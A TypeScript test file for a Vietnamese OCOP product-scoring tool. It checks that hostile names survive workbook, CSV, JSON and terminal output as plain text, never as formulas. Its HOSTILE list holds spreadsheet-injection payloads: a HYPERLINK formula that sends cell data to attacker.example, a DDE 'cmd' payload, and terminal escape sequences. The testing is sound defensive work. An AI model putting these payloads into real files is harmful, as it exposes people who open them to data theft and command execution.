import ExcelJS from "exceljs";
import { mkdtemp, readFile, rm, writeFile } from "fs/promises";
import { tmpdir } from "os";
import { join } from "path";
import { computeResults } from "../../src/commands";
import { shippedCatalog } from "../../src/criteria/shippedCatalog";
import { allowedPoints, criteriaOf, type Round } from "../../src/domain";
import { MemoryWorkbook } from "../../src/workbook/memoryWorkbook";
import { parseWorkbook } from "../../src/workbook/parse/parseWorkbook";
import type { SheetGrid } from "../../src/workbook/port";
import { XlsxWorkbook } from "../../src/xlsx/xlsxWorkbook";
import { ocop } from "../cli/cliHarness";
import { buildRound, commandOptions } from "./validRound";

/** Names a spreadsheet would run as formulas (CSV/DDE injection) or a terminal would obey. */
const HOSTILE = [
  "=1+1",
  "+84 912 345 678",
  "-2+3",
  "@SUM(A1:A9)",
  '=HYPERLINK("http://attacker.example/?d="&A1,"Xem chi tiết")',
  "=cmd|' /C calc'!A0",
  "Mật ong\tcó\u0007chuông\u001b[31m đỏ",
  "Dòng 1\nDòng 2",
  "Chè\u0000shan\u0008tuyết",
] as const;
/** 5,000 characters: longer than any column, shorter than Excel's 32,767-character cell limit. */
const LONG = `${"Trà shan tuyết cổ thụ Hà Giang ".repeat(200).slice(0, 4999)}!`;
const NAMES = [...HOSTILE, LONG];

const catalog = shippedCatalog();

/** A round whose product, producer and member names are all hostile, every criterion scored. */
function hostileRound(): Round {
  const set = catalog.criteriaSet("1048/2019", "1048-01");
  if (!set) throw new Error("no 1048-01");
  const members = [0, 1, 2].map((m) => ({ id: `M${m + 1}`, name: NAMES[(m * 4) % NAMES.length] }));
  const products = NAMES.map((name, p) => ({
    id: `P${String(p + 1).padStart(2, "0")}`,
    name,
    producer: NAMES[(p + 1) % NAMES.length],
    productSet: "1048-01",
  }));
  const best = Object.fromEntries(criteriaOf(set).map((c) => [c.id, Math.max(...allowedPoints(c))]));
  const scores = Object.fromEntries(
    products.map((p) => [p.id, Object.fromEntries(members.map((m) => [m.id, best]))]),
  );
  return {
    criteriaVersion: "1048/2019",
    council: { level: "district", name: '=HYPERLINK("x")', date: "2024-10-15" },
    members,
    products,
    scores,
  };
}

/** Every cell holding a hostile name holds it as text, and no formula the add-in wrote quotes one. */
function expectNamesAsText(grids: readonly SheetGrid[]): number {
  let seen = 0;
  for (const grid of grids)
    grid.values.forEach((line, row) =>
      line.forEach((value, column) => {
        const formula = grid.formulas[row]?.[column] ?? null;
        if (typeof value === "string" && NAMES.some((name) => value.includes(name))) {
          seen += 1;
          expect({ sheet: grid.name, row, column, formula }).toEqual({
            sheet: grid.name,
            row,
            column,
            formula: null,
          });
        }
        if (formula !== null) for (const name of NAMES) expect(formula.includes(name)).toBe(false);
      }),
    );
  return seen;
}

function expectNamesKept(round: Round, original: Round): void {
  expect(round.products.map((p) => [p.name, p.producer])).toEqual(
    original.products.map((p) => [p.name, p.producer]),
  );
  expect(round.members.map((m) => m.name)).toEqual(original.members.map((m) => m.name));
}

let dir: string;
beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), "ocop-hostile-"));
});
afterAll(async () => {
  await rm(dir, { recursive: true, force: true });
});

describe("hostile names", () => {
  it("are written and read back as text in the in-memory workbook, never as formulas", async () => {
    const round = hostileRound();
    const workbook = new MemoryWorkbook();
    await buildRound(workbook, (s, a, v) => workbook.setCell(s, a, v), round, commandOptions(catalog));
    await computeResults(workbook, commandOptions(catalog));
    const grids = await workbook.readSheets();
    // Products, Council, each criteria sheet's header and the result sheet all show the names.
    expect(expectNamesAsText(grids)).toBeGreaterThanOrEqual(NAMES.length * 3);
    expectNamesKept(parseWorkbook(grids, catalog).round, round);
  });

  it("are saved in the .xlsx as text cells, survive a save and reopen whole, and are never formulas", async () => {
    const round = hostileRound();
    const workbook = XlsxWorkbook.empty();
    await buildRound(
      workbook,
      (sheet, address, value) => {
        const target = workbook.workbook.getWorksheet(sheet);
        if (target) target.getCell(address).value = value;
      },
      round,
      commandOptions(catalog),
    );
    await computeResults(workbook, commandOptions(catalog));
    const bytes = await workbook.toBuffer();

    // Straight from the file, without our reader: exceljs sees text cells where the names are.
    const raw = new ExcelJS.Workbook();
    await raw.xlsx.load(bytes as unknown as ExcelJS.Buffer);
    let textCells = 0;
    raw.eachSheet((sheet) =>
      sheet.eachRow((row) =>
        row.eachCell((cell) => {
          // A merged range's other cells echo its first cell, which is checked itself.
          if (cell.type === ExcelJS.ValueType.Merge) return;
          if (cell.type === ExcelJS.ValueType.Formula) {
            for (const name of NAMES) expect(cell.formula.includes(name)).toBe(false);
            return;
          }
          if (typeof cell.value === "string" && NAMES.some((name) => (cell.value as string).includes(name))) {
            textCells += 1;
            expect(cell.type).toBe(ExcelJS.ValueType.String);
          }
        }),
      ),
    );
    expect(textCells).toBeGreaterThanOrEqual(NAMES.length * 3);

    const reopened = await XlsxWorkbook.fromBuffer(bytes);
    const grids = await reopened.readSheets();
    expectNamesAsText(grids);
    expectNamesKept(parseWorkbook(grids, catalog).round, round);
  }, 60_000);

  it("come out whole in the JSON export and the compute result, and shortened, without control characters, in the terminal table", async () => {
    const round = hostileRound();
    const roundFile = join(dir, "hostile.json");
    const workbookFile = join(dir, "hostile.xlsx");
    await writeFile(roundFile, JSON.stringify({ format: "ocop-round/1", ...round }));
    expect((await ocop("init", "--round", roundFile, "--out", workbookFile)).code).toBe(0);

    const exported = await ocop("export", workbookFile);
    expect(exported.code).toBe(0);
    expectNamesKept(JSON.parse(exported.out) as Round, round);

    const table = await ocop("compute", workbookFile, "--lang", "en");
    expect(table.code).toBe(0);
    // eslint-disable-next-line no-control-regex
    expect(table.out).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f]/);
    expect(table.out).not.toContain(LONG);
    const rows = table.out.split("\n").filter((line) => /\bP\d\d\b/.test(line));
    // One line per product: a newline inside a name does not split its row.
    expect(rows.length).toBe(round.products.length);
    for (const line of rows) expect([...line].length).toBeLessThan(200);

    const json = await ocop("compute", workbookFile, "--out", join(dir, "computed.xlsx"), "--json");
    expect(json.code).toBe(0);
    expect((JSON.parse(json.out) as { products: unknown[] }).products).toHaveLength(round.products.length);
    // Every name is still whole in the file, the 5,000-character one and control characters included.
    const saved = await XlsxWorkbook.fromBuffer(await readFile(workbookFile));
    expectNamesKept(parseWorkbook(await saved.readSheets(), catalog).round, round);
  }, 60_000);

  // exceljs decodes _xHHHH_ on load and would drop control characters when it writes again; the xlsx
  // adapter re-encodes every sheet's text at save, so a second save keeps them.
  it("keep control characters through a compute that rewrites the file in place", async () => {
    const round = hostileRound();
    const roundFile = join(dir, "control.json");
    const workbookFile = join(dir, "control.xlsx");
    await writeFile(roundFile, JSON.stringify({ format: "ocop-round/1", ...round }));
    expect((await ocop("init", "--round", roundFile, "--out", workbookFile)).code).toBe(0);
    expect((await ocop("compute", workbookFile)).code).toBe(0);
    const saved = await XlsxWorkbook.fromBuffer(await readFile(workbookFile));
    expectNamesKept(parseWorkbook(await saved.readSheets(), catalog).round, round);
  }, 60_000);

  it("typed into CSV lists become text cells of a new workbook", async () => {
    const quote = (text: string) => `"${text.replace(/"/g, '""')}"`;
    const products = join(dir, "products.csv");
    const members = join(dir, "members.csv");
    const csvNames = NAMES.filter((name) => !name.includes("\u0000"));
    await writeFile(
      products,
      [
        "id,name,producer,productSet",
        ...csvNames.map((n, i) => `P${i + 1},${quote(n)},${quote(n)},1048-01`),
      ].join("\r\n"),
    );
    await writeFile(
      members,
      ["id,name", ...csvNames.slice(0, 3).map((n, i) => `M${i + 1},${quote(n)}`)].join("\r\n"),
    );
    const out = join(dir, "from-csv.xlsx");
    const init = await ocop(
      "init",
      "--version",
      "1048/2019",
      "--products",
      products,
      "--members",
      members,
      "--out",
      out,
    );
    expect(init.code).toBe(0);
    const grids = await (await XlsxWorkbook.fromFile(out)).readSheets();
    expectNamesAsText(grids);
    const read = parseWorkbook(grids, catalog).round;
    expect(read.products.map((p) => p.name)).toEqual(csvNames);
    expect(read.members.map((m) => m.name)).toEqual(csvNames.slice(0, 3));
  }, 60_000);
});
